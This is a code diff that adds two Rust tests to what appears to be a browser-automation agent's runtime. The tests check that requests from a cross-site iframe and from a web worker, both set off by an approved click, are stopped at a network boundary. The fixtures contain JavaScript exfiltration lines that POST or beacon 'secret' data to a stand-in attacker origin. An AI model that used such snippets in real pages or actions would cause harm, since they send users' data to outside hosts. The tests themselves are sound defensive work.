@@ -202,6 +202,95 @@ document.getElementById('go').onclick = () => {{
     assert!(env.server.requests_to("/bounce").len() == 1, "the form post reached the page's origin, whose redirect was stopped");
 }
 
+/// A cross-site iframe runs in its own process with its own debugger session: what a click in it
+/// causes is judged like the page's own requests, on that session — an iframe already there and
+/// one the click itself creates alike.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn requests_of_a_cross_site_frame_are_judged_like_the_pages() {
+    let env = env("hostile-oopif", true).await;
+    let attacker = FixtureServer::start().await.unwrap();
+    let evil = attacker.origin();
+    let frame_origin = env.server.url_on_host("localhost", "");
+    // The frame the click creates is of the host page's site again: inside the cross-site frame it
+    // is another out-of-process frame, attached while the action's window is open.
+    let late = env.server.url("/late.html");
+    env.server.html(
+        "/widget.html",
+        format!(
+            r#"<!doctype html><title>Widget</title><button id=send>Send</button><p id=out>idle</p>
+<script>
+document.getElementById('send').onclick = () => {{
+  fetch('{evil}/oopif-fetch', {{method: 'POST', body: 'secret'}}).catch(() => {{}});
+  navigator.sendBeacon('{evil}/oopif-beacon', 'secret');
+  fetch('/own').then(r => r.text()).then(t => document.getElementById('out').textContent = 'own ' + t).catch(() => {{}});
+  const f = document.createElement('iframe');
+  f.src = '{late}';
+  document.body.appendChild(f);
+}};
+</script>"#
+        ),
+    );
+    env.server.html(
+        "/late.html",
+        format!("<!doctype html><p>late</p><script>fetch('{evil}/late-frame', {{method: 'POST', body: 'secret'}}).catch(() => {{}});</script>"),
+    );
+    env.server.html("/own", "ok");
+    env.server
+        .html("/host.html", format!(r#"<!doctype html><title>Host</title><p>Host page</p><iframe src="{frame_origin}/widget.html" title=widget></iframe>"#));
+    crate::open(&env.runtime, &env.session, &env.server.url("/host.html")).await.unwrap();
+    let o = crate::observe_until(&env.runtime, &env.session, "Send").await;
+    // The frame's origin is not trusted: a person approves the click there (and only there).
+    let send = click(&o, "Send");
+    let Err(RuntimeError::NeedsApproval { approval_id, .. }) = env.runtime.act(&env.session, None, &send, &Default::default(), Duration::ZERO).await else {
+        panic!("a click on the frame's origin asks")
+    };
+    env.runtime.resolve_approval(&approval_id, ApprovalDecision::ApproveOnce).unwrap();
+    let outcome = env.runtime.act(&env.session, None, &send, &Default::default(), Duration::ZERO).await.unwrap();
+    tokio::time::sleep(browser::GUARD_TAIL + Duration::from_millis(500)).await;
+    let reached: Vec<String> = attacker.requests().iter().map(|r| format!("{} {}", r.method, r.path)).collect();
+    assert!(reached.is_empty(), "nothing the frame sent reached the attacker's origin: {reached:?}");
+    let detail = outcome.receipt.detail().unwrap_or_default().to_owned();
+    assert!(detail.contains("network boundary blocked") && detail.contains("oopif-fetch"), "the receipt says what was blocked: {detail:?}");
+    assert_eq!(env.server.requests_to("/own").len(), 1, "the frame's own request reached its own origin");
+    assert_eq!(env.server.requests_to("/late.html").len(), 1, "the frame the click created loaded");
+}
+
+/// A worker the click starts sends on its own session: its requests are judged too.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn requests_of_a_worker_an_action_starts_are_judged() {
+    let env = env("hostile-worker", true).await;
+    let attacker = FixtureServer::start().await.unwrap();
+    let evil = attacker.origin();
+    env.server.route(
+        "/worker.js",
+        test_support::Route::Content {
+            content_type: "text/javascript".into(),
+            body: format!(
+                "fetch('{evil}/worker-fetch', {{method: 'POST', body: 'secret'}}).catch(() => {{}}); fetch('/own').then(() => postMessage('own ok'));"
+            )
+            .into_bytes(),
+        },
+    );
+    env.server.html("/own", "ok");
+    env.server.html(
+        "/workers.html",
+        r#"<!doctype html><title>Workers</title><button id=go>Start</button><p id=out>idle</p>
+<script>
+document.getElementById('go').onclick = () => {
+  const w = new Worker('/worker.js');
+  w.onmessage = (e) => document.getElementById('out').textContent = e.data;
+};
+</script>"#,
+    );
+    crate::open(&env.runtime, &env.session, &env.server.url("/workers.html")).await.unwrap();
+    let o = crate::observe_until(&env.runtime, &env.session, "Start").await;
+    env.runtime.act(&env.session, None, &click(&o, "Start"), &Default::default(), Duration::ZERO).await.unwrap();
+    tokio::time::sleep(browser::GUARD_TAIL + Duration::from_millis(500)).await;
+    let reached: Vec<String> = attacker.requests().iter().map(|r| format!("{} {}", r.method, r.path)).collect();
+    assert!(reached.is_empty(), "nothing the worker sent reached the attacker's origin: {reached:?}");
+    assert_eq!(env.server.requests_to("/own").len(), 1, "the worker's own request reached the page's origin");
+}
+
 /// "Allow for this site" on a click that leads elsewhere grants the origin the person was shown —
 /// the destination — and nothing else: the page's other links to a third origin still ask.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
